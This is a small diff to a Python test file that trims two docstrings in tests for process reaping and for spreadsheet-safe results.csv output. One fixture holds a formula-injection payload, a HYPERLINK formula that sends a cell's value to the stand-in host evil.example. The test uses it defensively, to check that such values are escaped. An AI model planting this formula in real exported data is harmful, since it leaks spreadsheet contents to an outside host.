@@ -428,7 +428,7 @@ def test_a_notebook_units_folder_and_record_are_masked(tmp_path, monkeypatch):
 
 def test_a_child_that_detaches_into_its_own_session_is_killed_with_its_unit(tmp_path):
     """``setsid`` takes a child out of the unit's process group; the reaper is a child subreaper, so the
-    orphan is reparented to it and killed when the unit ends (an independent probe found it surviving)."""
+    orphan is reparented to it and killed when the unit ends."""
     import time
 
     detach = ("import json, subprocess, sys; child = subprocess.Popen(['setsid', 'sleep', '971']); "
@@ -476,7 +476,7 @@ def test_literal_credentials_in_other_command_forms_are_masked():
 
 
 def test_a_result_whose_text_looks_like_a_query_is_read_and_results_csv_is_spreadsheet_safe(tmp_path):
-    """Found by an independent probe: stdout was masked before its result line was read, so a text holding
+    """Stdout was masked before its result line was read, so a text holding
     ``?x=\\"`` lost its closing quote and the unit failed with "no result"; and results.csv wrote a parameter or a
     printed text that starts with "=" as a formula."""
     result = {"score": 1.5, "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)": 2,
